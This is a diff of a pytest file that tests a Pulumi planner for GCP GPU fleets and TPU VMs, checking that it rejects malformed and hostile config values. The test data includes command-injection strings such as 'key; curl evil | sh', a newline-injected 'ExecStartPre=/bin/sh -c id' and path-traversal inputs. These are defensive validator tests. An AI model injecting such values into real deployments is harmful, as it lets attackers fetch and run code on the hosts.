@@ -143,3 +143,128 @@ def test_plan_accepts_a_production_model_store_with_publishers(pulumi_project, c
     code, err = _plan(pulumi_project, capsys, text, stack="prod")
     assert code in (0, 1), err  # 1: a production policy may still be unmet; the config itself is accepted
     assert "modelStore.publishers" not in err
+
+
+# --- the same review on GCP: GPU fleets and TPU slices ------------------------------------------
+
+GCP_BASE = """\
+  gcp:project: acme-test
+  gcp:region: us-central1
+  inference-infra:costCenter: ml
+  inference-infra:owner: team@example.com
+  inference-infra:gcpModelBucket: acme-models
+"""
+GCS_URI = "gs://acme-models/llama-3.1-8b-instruct"
+
+
+def _gcp_stack(key: str, node: dict, extra: str = "") -> str:
+    return f"config:\n{GCP_BASE}{extra}  inference-infra:{key}: {json.dumps([node])}\n"
+
+
+def _gcp_fleet(**overrides: object) -> dict:
+    fleet = {
+        "name": "l4",
+        "machineType": "g2-standard-8",
+        "model": {"name": "llama-3.1-8b", "contextTokens": 4096, "concurrency": 4},
+        "spot": 1,
+        "models": [GCS_URI],
+        "manifestSha256": {GCS_URI: PIN},
+    }
+    return {**fleet, **overrides}
+
+
+def _tpu(**overrides: object) -> dict:
+    tpu = {
+        "name": "qwen-tpu",
+        "model": {"name": "qwen2.5-7b", "contextTokens": 4096, "concurrency": 8},
+        "zone": "us-central1-a",
+        "spot": 1,
+        "models": [GCS_URI],
+        "manifestSha256": {GCS_URI: PIN},
+    }
+    return {**tpu, **overrides}
+
+
+@pytest.mark.parametrize(("key", "node"), [("gcpGpuFleets", _gcp_fleet()), ("tpuVms", _tpu())])
+def test_plan_accepts_the_reference_gcp_nodes(pulumi_project, capsys, key, node):
+    code, err = _plan(pulumi_project, capsys, _gcp_stack(key, node))
+    assert code in (0, 1), err
+    assert "invalid stack config" not in err
+
+
+def _hostile_uri(uri: str) -> dict:
+    return {"models": [uri], "manifestSha256": {uri: PIN}}
+
+
+GCP_HOSTILE = [
+    (_hostile_uri("gs://acme-models/llama 8b"), "models[0]"),  # a space: extra docker run flags
+    (_hostile_uri("gs://acme-models/llama\nENGINE_FILE"), "models[0]"),  # a newline: ends a heredoc
+    (_hostile_uri("gs://acme-models/llama%n"), "models[0]"),  # a systemd specifier
+    (_hostile_uri("gs://acme-models/*"), "models[0]"),  # the whole bucket
+    (_hostile_uri("gs://acme-models/team/../other"), "models[0]"),
+    ({"manifestSha256": {}}, "manifestSha256"),
+    ({"manifestSha256": {GCS_URI: "not-a-digest"}}, "manifestSha256"),
+    ({"name": "l4\nx"}, "name"),
+    ({"name": "a b"}, "name"),
+    ({"apiKeySecret": "key; curl evil | sh"}, "apiKeySecret"),
+    ({"apiKeySecret": "projects/p/secrets/../../x"}, "apiKeySecret"),
+]
+
+
+@pytest.mark.parametrize(("key", "make"), [("gcpGpuFleets", _gcp_fleet), ("tpuVms", _tpu)])
+@pytest.mark.parametrize(("overrides", "field"), GCP_HOSTILE)
+def test_plan_rejects_hostile_gcp_node_values_with_exit_2(
+    pulumi_project, capsys, key, make, overrides, field
+):
+    code, err = _plan(pulumi_project, capsys, _gcp_stack(key, make(**overrides)))
+    assert code == 2, err
+    assert err.startswith("inference-infra: ")
+    assert f"{key}[0].{field}" in err
+    assert "Traceback" not in err
+
+
+@pytest.mark.parametrize(("key", "make"), [("gcpGpuFleets", _gcp_fleet), ("tpuVms", _tpu)])
+@pytest.mark.parametrize(
+    "name_or_path",
+    ["llama\nENGINE_FILE\ncurl evil | sh", "llama\nExecStartPre=/bin/sh -c id", "llama --trust-remote-code"],
+)
+def test_plan_rejects_a_gcp_config_json_whose_name_would_reach_a_unit(
+    pulumi_project, capsys, tmp_path, key, make, name_or_path
+):
+    config = {
+        "_name_or_path": name_or_path,
+        "num_hidden_layers": 28,
+        "hidden_size": 3584,
+        "num_attention_heads": 28,
+        "num_key_value_heads": 4,
+        "intermediate_size": 18944,
+        "vocab_size": 152064,
+        "max_position_embeddings": 32768,
+    }
+    path = tmp_path / "checkpoint" / "config.json"
+    path.parent.mkdir()
+    path.write_text(json.dumps(config))
+    model = {"name": str(path), "contextTokens": 4096, "concurrency": 4}
+    code, err = _plan(pulumi_project, capsys, _gcp_stack(key, make(model=model)))
+    assert code == 2, err
+    assert f"inference-infra:{key}[0].model = " in err
+    assert "(config.json's _name_or_path), which must be 1-3 '/'-separated segments" in err
+
+
+def test_plan_rejects_a_production_gcp_bucket_without_publishers(pulumi_project, capsys):
+    code, err = _plan(pulumi_project, capsys, _gcp_stack("gcpGpuFleets", _gcp_fleet()), stack="prod")
+    assert code == 2, err
+    assert "inference-infra:gcpModelPublishers [] must name who may write" in err
+
+
+def test_plan_rejects_a_queued_tpu_slice_in_production_with_exit_2(pulumi_project, capsys):
+    tpu = {
+        "name": "burst",
+        "acceleratorType": "v5litepod-8",
+        "queued": True,
+        "secureBoot": False,
+        "acceptDefaultServiceAccount": "burst capacity only; reads no bucket",
+    }
+    code, err = _plan(pulumi_project, capsys, _gcp_stack("tpuVms", tpu), stack="prod")
+    assert code == 2, err
+    assert "inference-infra:tpuVms[0].queued True is refused in production" in err
